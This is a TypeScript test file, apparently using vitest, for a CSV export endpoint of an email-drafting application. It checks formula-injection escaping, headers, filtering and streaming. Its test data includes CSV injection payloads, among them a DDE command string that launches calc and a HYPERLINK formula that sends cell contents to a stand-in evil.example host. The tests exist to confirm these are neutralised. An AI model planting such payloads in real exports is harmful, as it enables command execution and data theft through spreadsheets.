import { once } from 'node:events';
import { get as httpGet } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { csvRow } from '../../src/http/drafts/csv.ts';
import { aDraft } from '../support/a-draft.ts';
import { Failure } from '../../src/domain/failure.ts';
import { type RestServer, send, startRest } from '../support/rest-server.ts';

const cellOf = (text: string): string => {
  const [[cell = ''] = []] = parse(csvRow([text]));
  return cell;
};

describe('a cell', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\ttab',
    '\rreturn',
    '   =1',
    '\u00a0=1',
    '\ufeff=1',
    '\u200b=1',
    '\u0001=1',
    '＝1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    "=cmd|'/C calc'!A0",
    '="a"&"b"',
  ])('that a spreadsheet would run is text: %j', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });

  it('that begins a formula behind a NUL or a semicolon is text, too', () => {
    expect(cellOf('\0=1')).toBe("'=1");
    expect(cellOf('a;=1;b; @x')).toBe("a;'=1;b;' @x");
  });

  it.each([
    'Pricing for 200 seats',
    'a = b, c - d @ e + f',
    'He said "no", twice',
    'two\r\nlines\n- and a bullet',
    'ж; 你好 🦊',
    '',
    '   ',
    "'already",
  ])('of anything else stays as it is: %j', (text) => {
    expect(cellOf(text)).toBe(text);
  });

  it('of our own making is bare', () => {
    expect(csvRow([7, -0.5, null, true, 'x'])).toBe('7,-0.5,,true,"x"\r\n');
  });

  it('takes no longer for a hostile text', () => {
    const started = performance.now();
    csvRow([`${' '.repeat(200_000)}x`, ' ;'.repeat(200_000), `${';'.repeat(200_000)}=`]);
    expect(performance.now() - started).toBeLessThan(500);
  });
});

describe('GET /drafts.csv', () => {
  let server: RestServer;
  beforeEach(async () => void (server = await startRest()));
  afterEach(async () => await server.close());

  async function fill(count: number): Promise<void> {
    // Together, for the store gathers what is written at once.
    const uids = Array.from({ length: count }, (_, index) => index + 1);
    await Promise.all(uids.map((uid) => server.deps.drafts.put(aDraft({ key: `k/${uid}`, uid }))));
  }

  async function exported(query = ''): Promise<Record<string, string>[]> {
    const response = await fetch(`${server.url}/drafts.csv?${query}`);
    expect(response.status).toBe(200);
    return parse(Buffer.from(await response.arrayBuffer()), { columns: true, bom: true });
  }

  it('is a file with a dated name, whose columns are named', async () => {
    await fill(1);
    const response = await fetch(`${server.url}/drafts.csv`);
    const headers = Object.fromEntries(response.headers);
    expect(headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(headers['content-disposition']).toMatch(
      /^attachment; filename="drafts-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const text = Buffer.from(await response.arrayBuffer()).toString('utf8');
    expect(text).toMatch(/^\ufeff"id","uid",/);
    const [row] = await exported();
    expect(row).toMatchObject({
      uid: '1',
      receivedAt: '2026-02-03T04:05:06Z',
      account: 'sales',
      mailbox: 'INBOX',
      senderName: 'Ada Lead',
      senderAddress: 'ada@lead.example',
      subject: 'Pricing for 200 seats',
      category: 'Lead',
      urgency: 'high',
      confidence: '0.9',
      status: 'drafted',
      company: 'Lead Ltd',
      industry: 'Software',
      size: '100-500',
      contactRole: 'CTO',
      intent: 'wants a quote',
      replySubject: 'Re: Pricing for 200 seats',
      replyBody: 'Dear Ada, …',
      language: 'en',
      model: 'mock-1',
      fallback: 'false',
      costUsd: '0',
      key: 'k/1',
    });
    expect(Object.keys(row ?? {})).toHaveLength(26);
  });

  it('makes hostile cells harmless and leaves a draft without reply empty', async () => {
    const formula = '=HYPERLINK("https://evil.example?x="&A1,"click")';
    await server.deps.drafts.put(
      aDraft({ sender: { name: formula, address: '@x' }, subject: 'a,"b"\r\nc\0;d' }),
    );
    await server.deps.drafts.put(
      aDraft({ key: 'k/2', reply: null, crm: null, status: 'no_reply' }),
    );
    const [silent, hostile] = await exported();
    expect(hostile).toMatchObject({
      senderName: `'${formula}`,
      senderAddress: "'@x",
      subject: 'a,"b"\r\nc;d',
    });
    expect(silent).toMatchObject({ replyBody: '', company: '', language: '' });
  });

  it('filters as GET /drafts does, whatever the paging', async () => {
    await fill(3);
    await server.deps.drafts.put(aDraft({ key: 'k/z', uid: 99, subject: 'A zebra' }));
    expect((await exported('q=zebra')).map(({ uid }) => uid)).toEqual(['99']);
    expect(await exported('status=approved')).toEqual([]);
    expect(await exported('category=Lead&limit=1&cursor=1')).toHaveLength(4);
    const wrong = await fetch(`${server.url}/drafts.csv?category=Leads`);
    expect([wrong.status, wrong.headers.get('content-disposition')]).toEqual([400, null]);
  });

  it('answers HEAD without reading a draft', async () => {
    const list = vi.spyOn(server.deps.drafts, 'list');
    const { status, headers } = await send(`${server.url}/drafts.csv`, { method: 'HEAD' });
    expect([status, headers['content-type']]).toEqual([200, expect.stringMatching(/^text\/csv/)]);
    expect(list).not.toHaveBeenCalled();
  });

  it('answers 503 while the database is away', async () => {
    server.deps.drafts.list = () => Promise.reject(new Failure('store.unavailable', 'locked'));
    const answer = await send(`${server.url}/drafts.csv`);
    expect([answer.status, answer.headers['content-disposition']]).toEqual([503, undefined]);
  });

  it.each(['identity', 'gzip', 'br'])('streams thousands, each once (%s)', async (encoding) => {
    await fill(2_403);
    const list = vi.spyOn(server.deps.drafts, 'list');
    const response = await fetch(`${server.url}/drafts.csv`, {
      headers: { 'Accept-Encoding': encoding },
    });
    expect(response.headers.get('content-encoding')).toBe(
      encoding === 'identity' ? null : encoding,
    );
    const rows: { uid: string }[] = parse(Buffer.from(await response.arrayBuffer()), {
      columns: true,
      bom: true,
    });
    expect(rows.map(({ uid }) => Number(uid))).toEqual(
      Array.from({ length: 2_403 }, (_, index) => 2_403 - index),
    );
    expect(list).toHaveBeenCalledTimes(13);
  });

  it('reads no further than a slow client does, and stops when it leaves', async () => {
    const body = 'x'.repeat(50_000);
    const [page] = await pagesOf(server, body);
    const list = vi.fn(() => Promise.resolve(page));
    server.deps.drafts.list = list;
    const request = httpGet(`${server.url}/drafts.csv`);
    request.on('error', () => undefined);
    const [response] = await once(request, 'response');
    response.pause();
    await pause(300);
    const read = list.mock.calls.length;
    expect(read).toBeLessThan(10);
    request.destroy();
    await vi.waitFor(() => expect(server.logged.join()).toContain('client left'));
    await pause(100);
    expect(list.mock.calls.length).toBeLessThanOrEqual(read + 1);
    expect(server.logged.filter((line) => line.includes('"level":50'))).toEqual([]);
  });
});

/** A page of two hundred long drafts, after which there is always another one. */
async function pagesOf(server: RestServer, body: string) {
  const reply = { subject: 'Re: x', body, language: 'en' };
  const result = await server.deps.drafts.put(aDraft({ reply }));
  if (result.kind === 'conflict') throw new Error(result.reason);
  const items = Array.from({ length: 200 }, () => result.draft);
  return [{ items, next: '1' }] as const;
}
